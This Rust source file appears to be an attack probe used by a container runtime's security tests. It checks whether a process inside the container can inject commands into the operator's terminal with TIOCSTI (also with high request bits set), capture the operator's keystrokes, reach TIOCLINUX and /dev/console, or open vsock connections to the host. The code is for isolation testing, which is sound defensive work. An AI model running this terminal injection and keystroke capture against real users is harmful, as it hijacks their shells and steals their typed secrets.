//! What a hostile container process tries against the operator and the isolation boundary
//! (run inside containers by the security tests). Every attempt is reported as one line
//! `NAME=RESULT`, where RESULT is `ok`, a return value, or the errno's name, so the test
//! can check what each layer of hull's defence did.
//!
//! ```text
//! hull-probe tty-attack TEXT LISTEN_MS   push TEXT + newline into every terminal within
//!                                        reach (TIOCSTI on /dev/tty and fds 0-2, also with
//!                                        the request's high bits set), try TIOCLINUX and
//!                                        /dev/console, then read whatever the operator
//!                                        types for LISTEN_MS ms ("stolen=HEX" lines)
//! hull-probe vsock-attack CID:PORT...    socket/socketpair(AF_VSOCK), then a connect
//!                                        attempt to each CID:PORT (one try each)
//! ```

use std::io::Write;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};
use std::time::{Duration, Instant};

use hull_tests::vsock;

pub fn errno_name(e: i32) -> String {
    match e {
        libc::EPERM => "EPERM".into(),
        libc::ENOENT => "ENOENT".into(),
        libc::EIO => "EIO".into(),
        libc::ENXIO => "ENXIO".into(),
        libc::EBADF => "EBADF".into(),
        libc::EACCES => "EACCES".into(),
        libc::ENODEV => "ENODEV".into(),
        libc::ENOTTY => "ENOTTY".into(),
        libc::EINVAL => "EINVAL".into(),
        libc::ENOSYS => "ENOSYS".into(),
        libc::EAFNOSUPPORT => "EAFNOSUPPORT".into(),
        libc::ECONNREFUSED => "ECONNREFUSED".into(),
        libc::ECONNRESET => "ECONNRESET".into(),
        libc::ETIMEDOUT => "ETIMEDOUT".into(),
        libc::EHOSTUNREACH => "EHOSTUNREACH".into(),
        libc::ENETUNREACH => "ENETUNREACH".into(),
        libc::EROFS => "EROFS".into(),
        libc::EEXIST => "EEXIST".into(),
        libc::EPROTONOSUPPORT => "EPROTONOSUPPORT".into(),
        other => format!("errno{other}"),
    }
}

/// `ok` for a non-negative result, else the errno's name.
pub fn outcome(rc: libc::c_long) -> String {
    if rc >= 0 {
        "ok".into()
    } else {
        errno_name(std::io::Error::last_os_error().raw_os_error().unwrap_or(0))
    }
}

pub fn report(name: &str, value: impl std::fmt::Display) {
    println!("{name}={value}");
    let _ = std::io::stdout().flush();
}

fn open(path: &str) -> Result<OwnedFd, String> {
    let c = std::ffi::CString::new(path).expect("no NUL");
    // SAFETY: open(2) of a NUL-terminated path; the result is checked.
    let fd = unsafe { libc::open(c.as_ptr(), libc::O_RDWR | libc::O_NOCTTY | libc::O_CLOEXEC) };
    if fd < 0 {
        return Err(outcome(-1));
    }
    // SAFETY: a fresh descriptor owned from here on.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

/// TIOCSTI of every byte of `text`, stopping at the first failure.
fn inject(fd: RawFd, text: &[u8], high_bits: bool) -> String {
    let request: libc::c_ulong = if high_bits {
        0x1_0000_0000 | libc::TIOCSTI
    } else {
        libc::TIOCSTI
    };
    for byte in text {
        // SAFETY: TIOCSTI reads one byte from a live variable; the raw system call takes
        // the request as given (high bits included).
        let rc = unsafe { libc::syscall(libc::SYS_ioctl, fd, request, byte as *const u8) };
        if rc < 0 {
            return outcome(rc);
        }
    }
    "ok".into()
}

/// The controlling terminal's device number (field 7 of /proc/self/stat); 0 = none.
fn controlling_tty() -> String {
    let stat = std::fs::read_to_string("/proc/self/stat").unwrap_or_default();
    let rest = stat.rsplit_once(')').map_or("", |(_, r)| r);
    rest.split_whitespace().nth(4).unwrap_or("?").to_string()
}

pub fn tty_attack(text: &str, listen: Duration) -> Result<(), String> {
    // A background read or write must not stop us: we want the errno.
    // SAFETY: ignoring job-control signals installs no handler code.
    unsafe {
        libc::signal(libc::SIGTTIN, libc::SIG_IGN);
        libc::signal(libc::SIGTTOU, libc::SIG_IGN);
    }
    let mut line = text.as_bytes().to_vec();
    line.push(b'\n');
    report("ctty", controlling_tty());
    // SAFETY: getsid/getpid take no pointers.
    report("session_leader", unsafe {
        libc::getsid(0) == libc::getpid()
    });
    // First every terminal within reach is opened and listened on (a descriptor opened
    // read-write on a terminal reads its keystrokes, whichever number it has), then
    // TIOCSTI pushes the command: done last, so the probe never reads its own injection
    // back and whatever it pushed waits for the operator's shell.
    let dev_tty = open("/dev/tty");
    report(
        "open_dev_tty",
        dev_tty.as_ref().map_or_else(|e| e.clone(), |_| "ok".into()),
    );
    let dev_console = open("/dev/console");
    report(
        "open_dev_console",
        dev_console
            .as_ref()
            .map_or_else(|e| e.clone(), |_| "ok".into()),
    );
    let mut readable: Vec<(String, OwnedFd)> = Vec::new();
    if let Ok(fd) = &dev_tty {
        readable.push(("dev_tty".into(), fd.try_clone().map_err(|e| e.to_string())?));
    }
    for fd in 0..3 {
        // SAFETY: dup of a small integer fd; the result is checked.
        let copy = unsafe { libc::fcntl(fd, libc::F_DUPFD_CLOEXEC, 10) };
        if copy >= 0 {
            // SAFETY: a fresh descriptor owned from here on.
            readable.push((format!("fd{fd}"), unsafe { OwnedFd::from_raw_fd(copy) }));
        }
    }
    report("listening", listen.as_millis());
    listen_for_keystrokes(readable, listen);

    if let Ok(fd) = &dev_tty {
        report("tiocsti_dev_tty", inject(fd.as_raw_fd(), &line, false));
    }
    if let Ok(fd) = &dev_console {
        report("tiocsti_dev_console", inject(fd.as_raw_fd(), &line, false));
    }
    for fd in 0..3 {
        // SAFETY: isatty on a small integer fd has no memory effects.
        report(&format!("isatty_{fd}"), unsafe { libc::isatty(fd) } == 1);
        report(&format!("tiocsti_{fd}"), inject(fd, &line, false));
        report(&format!("tiocsti_high_{fd}"), inject(fd, &line, true));
        let mut subcode = 2u8; // any subcode reaches the check
                               // SAFETY: TIOCLINUX reads one byte of a live variable.
        let rc = unsafe { libc::ioctl(fd, libc::TIOCLINUX, &mut subcode) };
        report(&format!("tioclinux_{fd}"), outcome(rc as libc::c_long));
    }
    report("tty_attack", "done");
    Ok(())
}

/// Reports whatever arrives on `readable` for `listen` (`stolen_NAME=HEX` lines).
fn listen_for_keystrokes(mut readable: Vec<(String, OwnedFd)>, listen: Duration) {
    let deadline = Instant::now() + listen;
    while Instant::now() < deadline {
        let mut fds: Vec<libc::pollfd> = readable
            .iter()
            .map(|(_, fd)| libc::pollfd {
                fd: fd.as_raw_fd(),
                events: libc::POLLIN,
                revents: 0,
            })
            .collect();
        let left = deadline
            .saturating_duration_since(Instant::now())
            .as_millis() as i32;
        // SAFETY: a valid pollfd array of the given length.
        let n = unsafe { libc::poll(fds.as_mut_ptr(), fds.len() as libc::nfds_t, left.max(1)) };
        if n <= 0 {
            continue;
        }
        let mut gone = Vec::new();
        for (i, p) in fds.iter().enumerate() {
            if p.revents & libc::POLLIN == 0 {
                if p.revents != 0 {
                    gone.push(i);
                }
                continue;
            }
            let mut buf = [0u8; 256];
            // SAFETY: reading into a live stack buffer of the given length.
            let got = unsafe { libc::read(p.fd, buf.as_mut_ptr().cast(), buf.len()) };
            if got > 0 {
                let hex: String = buf[..got as usize]
                    .iter()
                    .map(|b| format!("{b:02x}"))
                    .collect();
                report(&format!("stolen_{}", readable[i].0), hex);
            } else {
                gone.push(i);
            }
        }
        for i in gone.into_iter().rev() {
            readable.remove(i);
        }
        if readable.is_empty() {
            // Nothing left to read from: wait out the window all the same.
            std::thread::sleep(deadline.saturating_duration_since(Instant::now()));
        }
    }
}

pub fn vsock_attack(targets: &[&str]) -> Result<(), String> {
    // SAFETY: socket(2) with integer arguments; a created descriptor is closed below.
    let fd = unsafe { libc::socket(libc::AF_VSOCK, libc::SOCK_STREAM | libc::SOCK_CLOEXEC, 0) };
    report("vsock_socket", outcome(fd as libc::c_long));
    if fd >= 0 {
        // SAFETY: our own descriptor.
        unsafe { libc::close(fd) };
    }
    let mut pair = [0; 2];
    // SAFETY: socketpair(2) writes two descriptors into a live array.
    let rc = unsafe { libc::socketpair(libc::AF_VSOCK, libc::SOCK_STREAM, 0, pair.as_mut_ptr()) };
    report("vsock_socketpair", outcome(rc as libc::c_long));
    for target in targets {
        let (cid, port) = target
            .split_once(':')
            .and_then(|(c, p)| Some((c.parse::<u32>().ok()?, p.parse::<u32>().ok()?)))
            .ok_or_else(|| format!("not CID:PORT: {target:?}"))?;
        report(
            &format!("vsock_connect_{cid}_{port}"),
            connect_once(cid, port),
        );
    }
    Ok(())
}

/// One connect attempt (bounded by a send timeout), as `ok` or the errno's name.
fn connect_once(cid: u32, port: u32) -> String {
    let name = |e: std::io::Error| errno_name(e.raw_os_error().unwrap_or(0));
    let sock = match vsock::socket() {
        Ok(sock) => sock,
        Err(e) => return format!("socket:{}", name(e)),
    };
    // A failed timeout leaves the connect unbounded: report it rather than hang silently.
    if let Err(e) = vsock::set_timeouts(&sock, Duration::from_secs(5)) {
        return format!("setsockopt:{}", name(e));
    }
    match vsock::connect(sock, cid, port) {
        Ok(_) => "ok".into(),
        Err(e) => name(e),
    }
}
